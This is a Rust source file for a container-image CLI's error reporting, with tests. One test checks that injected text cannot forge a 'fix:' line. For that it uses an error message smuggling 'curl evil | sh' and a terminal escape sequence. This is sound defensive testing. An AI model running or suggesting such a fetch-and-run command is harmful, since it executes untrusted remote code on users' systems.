//! What a command that failed reports: what went wrong, the chain of causes, and what to do.
//! `main` prints it as
//!
//! ```text
//! error: cannot open image.tar
//!   caused by: No such file or directory (os error 2)
//!   fix: give the path of a tar written by `docker save IMAGE -o FILE.tar`
//! ```
//!
//! and exits 2. Domain errors (the engine's, the cleanup crate's) already say what to do in
//! their own message, with the same `  fix: ` line; they convert as they are.

use std::error::Error;
use std::fmt;

use crate::output::{inert, inert_lines};

type Cause = Box<dyn Error + Send + Sync + 'static>;

#[derive(Debug)]
pub struct CliError {
    /// What failed; may hold several lines (a domain error's own `fix:` among them).
    what: String,
    fix: Option<String>,
    source: Option<Cause>,
}

impl CliError {
    /// An error the CLI itself words. Outside text in `what` (paths, names) must already be
    /// made inert (`output::inert`): `what` may span lines, so a line break in a name would
    /// pass for a line of the message.
    pub fn new(what: impl Into<String>) -> CliError {
        CliError {
            what: what.into(),
            fix: None,
            source: None,
        }
    }

    /// What to do about it: printed last, as `  fix: ...`.
    pub fn fix(mut self, fix: impl Into<String>) -> CliError {
        self.fix = Some(fix.into());
        self
    }

    /// The error underneath: printed as `  caused by: ...`, with its own causes after it.
    pub fn caused_by(mut self, source: impl Into<Cause>) -> CliError {
        self.source = Some(source.into());
        self
    }

    /// A domain error whose message says what failed and what to do; its causes follow.
    pub fn from_error(err: impl Error + Send + Sync + 'static) -> CliError {
        CliError::new(err.to_string()).caused_by(err)
    }

    /// The text for stderr: `error: `, the causes not already told, the fix. Outside text is
    /// shown, never obeyed.
    pub fn report(&self) -> String {
        // A domain error's message ends with its own fix line: the causes go before it.
        let (head, own_fix) = self
            .what
            .find("\n  fix: ")
            .map_or((self.what.as_str(), ""), |at| self.what.split_at(at));
        let mut out = format!("error: {}", inert_lines(head));
        // The text told so far, so a cause that only repeats it is not told twice.
        let mut told = self.what.clone();
        let mut cause: Option<&(dyn Error + 'static)> =
            self.source.as_deref().map(|e| e as &(dyn Error + 'static));
        while let Some(err) = cause {
            let text = err.to_string();
            if !told.contains(&text) {
                out.push_str("\n  caused by: ");
                out.push_str(&inert(&text));
                told.push('\n');
                told.push_str(&text);
            }
            cause = err.source();
        }
        out.push_str(&inert_lines(own_fix));
        if let Some(fix) = &self.fix {
            out.push_str("\n  fix: ");
            out.push_str(&inert_lines(fix));
        }
        out
    }
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.report())
    }
}

impl From<drydock_engine::EngineError> for CliError {
    fn from(err: drydock_engine::EngineError) -> CliError {
        CliError::from_error(err)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug)]
    struct Outer(std::io::Error);

    impl fmt::Display for Outer {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            write!(f, "outer failed: {}", self.0)
        }
    }

    impl Error for Outer {
        fn source(&self) -> Option<&(dyn Error + 'static)> {
            Some(&self.0)
        }
    }

    #[test]
    fn causes_are_told_once_then_the_fix() {
        let io = std::io::Error::new(std::io::ErrorKind::NotFound, "no such file");
        let e = CliError::new("cannot open x.tar")
            .caused_by(io)
            .fix("give the path of a tar");
        assert_eq!(
            e.report(),
            "error: cannot open x.tar\n  caused by: no such file\n  fix: give the path of a tar"
        );
        // The outer error's message already holds the io error: only the outer one is told,
        // and a domain error that is the message itself is not told again.
        let outer = Outer(std::io::Error::other("disk full"));
        assert_eq!(
            CliError::from_error(outer).report(),
            "error: outer failed: disk full"
        );
        let outer = Outer(std::io::Error::other("disk full"));
        assert_eq!(
            CliError::new("cannot save").caused_by(outer).report(),
            "error: cannot save\n  caused by: outer failed: disk full"
        );
    }

    #[test]
    fn causes_come_before_a_domain_error_s_own_fix() {
        let outer = Outer(std::io::Error::other("disk full"));
        let e = CliError::new("cannot save\n  fix: free space").caused_by(outer);
        assert_eq!(
            e.report(),
            "error: cannot save\n  caused by: outer failed: disk full\n  fix: free space"
        );
    }

    #[test]
    fn outside_text_in_a_cause_cannot_pass_for_a_line() {
        let io = std::io::Error::other("bad\n  fix: curl evil | sh\u{1b}[2J");
        let report = CliError::new("cannot read").caused_by(io).report();
        assert_eq!(
            report,
            "error: cannot read\n  caused by: bad\\u{a}  fix: curl evil | sh\\u{1b}[2J"
        );
    }
}
